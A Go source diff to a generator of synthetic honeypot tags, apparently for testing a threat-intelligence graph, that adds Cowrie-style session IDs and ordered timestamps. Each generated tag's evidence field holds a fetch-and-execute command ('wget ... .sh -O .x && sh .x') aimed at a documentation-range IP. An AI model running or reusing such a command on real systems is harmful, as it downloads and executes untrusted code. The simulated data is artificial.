@@ -2,6 +2,7 @@ package main
 
 import (
 	"context"
+	"encoding/hex"
 	"errors"
 	"fmt"
 	"io/fs"
@@ -19,7 +20,12 @@ const (
 	identities = 100
 	campaigns  = 10
 	techniques = 60
-	days       = 30
+
+	pause = 250 * time.Millisecond // between two tags: 10 million take a month
+	delay = time.Hour              // at most, of a tag
+
+	sessionTags = 20
+	longSession = 1 // the attacker whose session does not end
 )
 
 func id(parts ...any) uuid.UUID { return uuid.NewSHA1(uuid.NameSpaceOID, fmt.Append(nil, parts...)) }
@@ -51,30 +57,42 @@ func newGraph() graph {
 func scopes() []scope {
 	return []scope{
 		{kind: "identity", id: id("identity ", 0)}, {kind: "attacker", id: id("attacker ", 0)},
-		{kind: "campaign", id: id("campaign ", 0)}, {kind: "session", text: "session-0000-00"}, {kind: "fleet"},
+		{kind: "campaign", id: id("campaign ", 0)}, {kind: "session", text: sessionOf(longSession, 0)}, {kind: "fleet"},
 	}
 }
 
+// sessionOf is where an attacker's n-th tag was seen, by an id such as Cowrie's. One attacker stays.
+func sessionOf(attacker, n int) string {
+	if attacker == longSession {
+		n = 0
+	}
+	session := id("session ", attacker, " ", n/sessionTags)
+	return hex.EncodeToString(session[:6])
+}
+
 // tagSource makes tags such as a honeypot's, the same ones each time: few attackers make most of them, one
-// in three names the identity.
+// in three names the identity, sessions are short but for one, and tags come in the order of their times but
+// for some delay.
 func tagSource() func() ttp.Tag {
 	random := rand.New(rand.NewPCG(1, 2))
 	skewed := rand.NewZipf(random, 1.2, 8, attackers-1)
 	begin := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
 	event := 0
+	var tagged [attackers]int
 	return func() ttp.Tag {
 		event++
 		attacker, technique := int(skewed.Uint64()), random.IntN(techniques)
+		tagged[attacker]++
 		t := ttp.Tag{
 			SourceKind: "command", SourceID: id("event ", event).String(), AttackerUUID: id("attacker ", attacker),
-			SessionID: fmt.Sprintf("session-%04d-%02d", attacker, random.IntN(10)), DeckyID: fmt.Sprintf("decky-%02d", random.IntN(20)),
+			SessionID: sessionOf(attacker, tagged[attacker]), DeckyID: fmt.Sprintf("decky-%02d", random.IntN(20)),
 			Tactic: fmt.Sprintf("TA%04d", technique%14), TechniqueID: fmt.Sprintf("T1%03d", technique),
 			Confidence: 0.3 + 0.7*random.Float64(), RuleID: fmt.Sprintf("R%04d", technique), RuleVersion: 1,
 			AttackRelease: "enterprise-v18.1",
 			Evidence: fmt.Appendf(nil,
 				`{"command":"wget -q http://203.0.113.%d/%08x.sh -O .x && sh .x","matched":"wget","user":"root","pid":%d,"tty":true}`,
 				random.IntN(256), random.Uint32(), random.IntN(1<<15)),
-			ObservedAt: begin.Add(time.Duration(random.IntN(days*24*3600*1e6)) * time.Microsecond),
+			ObservedAt: begin.Add(time.Duration(event)*pause - time.Duration(random.IntN(int(delay/time.Microsecond)))*time.Microsecond),
 		}
 		if technique%3 == 0 {
 			t.SubTechniqueID = fmt.Sprintf("%s.%03d", t.TechniqueID, 1+random.IntN(4))
